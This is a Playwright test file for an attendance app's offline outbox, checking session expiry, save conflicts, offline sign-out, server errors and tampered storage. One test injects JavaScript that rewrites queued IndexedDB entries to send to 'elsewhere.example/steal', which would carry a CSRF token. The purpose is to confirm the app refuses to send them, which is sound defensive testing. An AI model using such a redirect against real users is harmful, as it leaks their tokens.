"""The phone's outbox at its edges, in Chromium: a session that ended, notes in a conflict,
a sheet opened again before its save went, signing out with no network, and an entry
changed in the browser's storage by whoever used the browser.

The scene is tests/test_browser_offline.py's: the server's clock on 2021-01-13, a phone
at 360 px whose clock is the same morning.
"""

import re

import pytest
from playwright.sync_api import expect
from sqlalchemy import func, select

from courses.attendance import save_sheet
from extensions import db
from models import AttendanceOperation, Course, User
from tests.scenarios.attendance_api import TODAY, stored
from tests.scenarios.browser import sign_in
from tests.scenarios.i18n_pages import speaks
from tests.scenarios.offline_phone import (
    SHEET,
    mark,
    new_page,
    phone,
    ready_for_the_range,
    save_offline,
    sign_out,
    the_course,
)

pytestmark = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)

SAVE = re.compile("Save the sheet")


@pytest.fixture
def setup(app, accounts, monkeypatch):
    return the_course(app, accounts, monkeypatch)


@pytest.fixture
def phone_context(browser, live_server):
    yield from phone(browser, live_server)


def save_with_notes(app, setup, records: dict) -> None:
    """A colleague's save with network: {trainee_id: (status, note)}."""
    with app.app_context():
        course = db.session.get(Course, setup.id)
        user = db.session.get(User, setup.instructor["id"])
        rows = [{"trainee_id": t, "status": s, "note": n} for t, (s, n) in records.items()]
        save_sheet(course, TODAY, rows, user)
        db.session.commit()


def operations(app) -> int:
    with app.app_context():
        return db.session.scalar(select(func.count()).select_from(AttendanceOperation))


def test_a_save_after_the_session_ended_waits_for_the_next_sign_in(app, phone_context, setup):
    """The session ended while the sheet was open: the save was sent on to the sign-in
    page and the marks were dropped. They now wait on the phone, which says why."""
    aliyev, babayev = setup.trainees
    page = new_page(phone_context)
    sign_in(page, setup.instructor)
    page.goto(SHEET.format(setup.id))
    mark(page, "Əliyev Rauf", "Absent")
    phone_context.clear_cookies()  # the session ends on the server's side
    page.get_by_role("button", name=SAVE).click()
    status = page.get_by_test_id("outbox-status")
    expect(status).to_contain_text(
        "Your session has ended: 1 sheet saved on this phone is sent once you sign in again."
    )
    assert stored(app, setup.id, TODAY) == {}

    status.get_by_role("link", name="Sign in").click()
    expect(page).to_have_url(re.compile(r"/login"))
    page.get_by_label("E-mail").fill(setup.instructor["email"])
    page.get_by_label("Password").fill(setup.instructor["password"])
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_test_id("outbox-saved")).to_have_text(
        "Everything saved on this phone has been sent."
    )
    assert stored(app, setup.id, TODAY) == {aliyev: ("absent", ""), babayev: ("present", "")}
    assert operations(app) == 1


def test_a_conflict_shows_the_notes_and_a_note_alone_is_a_difference(app, phone_context, setup):
    aliyev, babayev = setup.trainees
    page = new_page(phone_context)
    sign_in(page, setup.instructor)
    ready_for_the_range(page)
    phone_context.set_offline(True)
    page.goto(SHEET.format(setup.id))
    mark(page, "Əliyev Rauf", "Absent")
    page.locator(f"#note-{babayev}").fill("Came with a doctor's note")
    page.get_by_role("button", name=SAVE).click()
    expect(page.get_by_test_id("outbox-saved")).to_contain_text("(1 waiting)")
    save_with_notes(app, setup, {aliyev: ("excused", "Sick leave"), babayev: ("present", "")})

    phone_context.set_offline(False)
    page.goto("/instructor")
    rows = page.get_by_test_id("outbox-conflict-row")
    expect(rows).to_have_count(2)
    expect(rows.nth(0)).to_contain_text("Note: Sick leave")  # the colleague's, shown
    # The same status on both sides, but the phone's note differs: marked as a difference.
    expect(rows.nth(1)).to_have_attribute("data-differs", "true")
    expect(rows.nth(1)).to_contain_text("Note: Came with a doctor's note")
    rows.nth(1).get_by_label(re.compile("On this phone")).check()
    page.get_by_role("button", name="Save my choice").click()
    expect(page.locator("#outbox")).to_have_attribute("data-waiting", "0")
    assert stored(app, setup.id, TODAY) == {
        aliyev: ("excused", "Sick leave"),
        babayev: ("present", "Came with a doctor's note"),
    }


def test_the_sheet_opened_again_shows_the_marks_waiting_and_a_new_save_replaces_them(
    app, phone_context, setup
):
    aliyev, babayev = setup.trainees
    page = new_page(phone_context)
    sign_in(page, setup.instructor)
    ready_for_the_range(page)
    # Nothing gets through, whatever the page believes of the network (a page the worker
    # served may still say it is online, and its sends then fail or hang).
    phone_context.route("**/outbox", lambda route: route.abort("internetdisconnected"))
    save_offline(phone_context, page, setup.id, [("Əliyev Rauf", "Absent")])
    expect(page.get_by_test_id("outbox-saved")).to_contain_text("(1 waiting)")

    page.goto(SHEET.format(setup.id))  # still offline: the phone's copy of the page
    absent = page.get_by_role("radiogroup", name="Attendance of Əliyev Rauf").get_by_label("Absent")
    expect(absent).to_be_checked()  # the marks waiting, not the server's empty sheet
    expect(page.get_by_test_id("outbox-saved")).to_contain_text("(1 waiting)")
    mark(page, "Babayev Elçin", "Late")
    page.get_by_role("button", name=SAVE).click()
    expect(page.locator("#outbox")).to_have_attribute("data-waiting", "1")  # replaced

    page.goto("/instructor")  # the phone's copy; a send still pending is given up
    phone_context.unroute("**/outbox")
    phone_context.set_offline(False)
    page.goto("/instructor")
    expect(page.locator("#outbox")).to_have_attribute("data-waiting", "0")
    assert stored(app, setup.id, TODAY) == {aliyev: ("absent", ""), babayev: ("late", "")}
    assert operations(app) == 1


def test_once_sent_the_sheet_takes_a_correction_without_conflicting_with_itself(
    app, phone_context, setup
):
    aliyev, babayev = setup.trainees
    page = new_page(phone_context)
    sign_in(page, setup.instructor)
    page.goto(SHEET.format(setup.id))
    phone_context.route("**/outbox", lambda route: route.abort("internetdisconnected"))
    mark(page, "Əliyev Rauf", "Absent")
    page.get_by_role("button", name=SAVE).click()
    expect(page.get_by_test_id("outbox-saved")).to_contain_text("(1 waiting)")
    phone_context.unroute("**/outbox")
    page.get_by_role("button", name="Send now").click()
    expect(page.get_by_test_id("outbox-saved")).to_have_text(
        "Everything saved on this phone has been sent."
    )
    expect(page.get_by_test_id("recorded-by")).to_be_visible()  # the server's sheet now

    mark(page, "Babayev Elçin", "Late")
    page.get_by_role("button", name=SAVE).click()
    expect(page).to_have_url(re.compile(r"/attendance#day-2021-01-13$"))
    assert stored(app, setup.id, TODAY) == {aliyev: ("absent", ""), babayev: ("late", "")}


def test_signing_out_with_no_network_keeps_the_session_and_the_kept_sheets(
    app, phone_context, setup
):
    page = new_page(phone_context)
    sign_in(page, setup.instructor)
    ready_for_the_range(page)
    phone_context.set_offline(True)
    said = []
    page.once("dialog", lambda dialog: (said.append(dialog.message), dialog.accept()))
    sign_out(page)
    for _ in range(300):
        if said:
            break
        page.wait_for_timeout(100)
    assert said == [
        "There is no network: signing out needs it. You stay signed in, and the sheets kept "
        "on this phone stay ready."
    ]
    kept = page.evaluate(f"caches.match('{SHEET.format(setup.id)}').then(Boolean)")
    assert kept is True
    response = page.goto(SHEET.format(setup.id))
    assert response.from_service_worker  # still ready for the range
    expect(page.get_by_role("button", name=SAVE)).to_be_visible()


# Whoever used the browser can change the outbox in its storage: here the address an
# entry goes to, pointed at another site (it would carry the CSRF token there).
POINT_ELSEWHERE = """async () => {
  const open = indexedDB.open("outbox-" + document.getElementById("outbox").dataset.account);
  const db = await new Promise((ok) => { open.onsuccess = () => ok(open.result); });
  const store = db.transaction("entries", "readwrite").objectStore("entries");
  const list = await new Promise((ok) => {
    const r = store.getAll();
    r.onsuccess = () => ok(r.result);
  });
  for (const entry of list) {
    entry.url = "https://elsewhere.example/steal";
    await new Promise((ok) => { const r = store.put(entry); r.onsuccess = ok; });
  }
  return list.length;
}"""


def test_an_entry_changed_in_the_browsers_storage_is_shown_and_never_sent(
    app, phone_context, setup
):
    """In Azerbaijani: the day as the server writes it, and every word of the card."""
    speaks(app, setup.instructor, "az")
    page = new_page(phone_context)
    sign_in(page, setup.instructor)
    ready_for_the_range(page)
    phone_context.set_offline(True)
    page.goto(SHEET.format(setup.id))
    page.get_by_role("radiogroup").first.locator("label", has_text="Gəlməyib").click()
    page.get_by_role("button", name=re.compile("Vərəqəni yadda saxla")).click()
    expect(page.locator("#outbox")).to_have_attribute("data-waiting", "1")
    assert page.evaluate(POINT_ELSEWHERE) == 1
    elsewhere = []
    phone_context.route(
        "https://elsewhere.example/**",
        lambda route: (elsewhere.append(route.request.url), route.abort()),
    )

    phone_context.set_offline(False)
    page.goto("/instructor")
    card = page.get_by_test_id("outbox-refused")
    expect(card).to_contain_text("13 yanvar 2021 tarixli vərəqə")
    expect(card).to_contain_text("brauzerin yaddaşında dəyişdirilib")
    expect(card.get_by_test_id("outbox-marks")).to_contain_text("Əliyev Rauf: Gəlməyib")
    expect(page.get_by_role("button", name="İndi göndər")).to_be_hidden()  # nothing can go
    with page.expect_response("**/offline/account"):  # asked anyway, it sends nothing
        page.locator("[data-outbox-send]").dispatch_event("click")
    page.wait_for_load_state("networkidle")
    assert elsewhere == []
    assert stored(app, setup.id, TODAY) == {}


def test_a_new_save_keeps_a_waiting_save_it_never_showed(app, phone_context, setup):
    """The waiting save was made on an older sheet (a colleague saved since), so the page
    opened on the newer one does not show it. A new save of the day must not drop it: it
    comes back as a conflict, set beside the server's record, and nothing is lost unseen."""
    aliyev, babayev = setup.trainees
    page = new_page(phone_context)
    sign_in(page, setup.instructor)
    ready_for_the_range(page)
    phone_context.route("**/outbox", lambda route: route.abort("internetdisconnected"))
    save_offline(phone_context, page, setup.id, [("Əliyev Rauf", "Absent")])
    expect(page.get_by_test_id("outbox-saved")).to_contain_text("(1 waiting)")
    save_with_notes(app, setup, {aliyev: ("present", ""), babayev: ("present", "")})

    phone_context.set_offline(False)  # one bar: the page loads, the outbox gets nowhere
    page.goto(SHEET.format(setup.id))
    expect(page.get_by_test_id("recorded-by")).to_be_visible()  # the colleague's sheet
    mark(page, "Babayev Elçin", "Late")
    page.get_by_role("button", name=SAVE).click()
    expect(page.locator("#outbox")).to_have_attribute("data-waiting", "2")

    phone_context.unroute("**/outbox")
    page.get_by_role("button", name="Send now").click()
    conflict = page.get_by_test_id("outbox-conflict")
    expect(conflict).to_be_visible()
    expect(conflict.get_by_test_id("outbox-conflict-row").nth(0)).to_contain_text("Absent")
    # The server's copy is the instructor's own newer save: "you", not their own name.
    expect(conflict).to_contain_text("On the server, saved by you: Present")
    assert stored(app, setup.id, TODAY) == {aliyev: ("present", ""), babayev: ("late", "")}


def test_a_server_in_trouble_is_not_taken_for_a_session_that_ended(app, phone_context, setup):
    page = new_page(phone_context)
    sign_in(page, setup.instructor)
    ready_for_the_range(page)
    save_offline(phone_context, page, setup.id, [("Əliyev Rauf", "Absent")])
    expect(page.get_by_test_id("outbox-saved")).to_contain_text("(1 waiting)")
    phone_context.route(
        "**/offline/account",
        lambda route: route.fulfill(
            status=503, body="<h1>Unavailable</h1>", content_type="text/html"
        ),
    )
    phone_context.set_offline(False)
    with page.expect_response("**/offline/account"):
        page.get_by_role("button", name="Send now").click()
    expect(page.locator("#outbox")).not_to_have_attribute("data-sending", "true")
    status = page.get_by_test_id("outbox-status")
    expect(status).to_contain_text("(1 waiting)")
    expect(status).not_to_contain_text("session has ended")
    assert stored(app, setup.id, TODAY) == {}
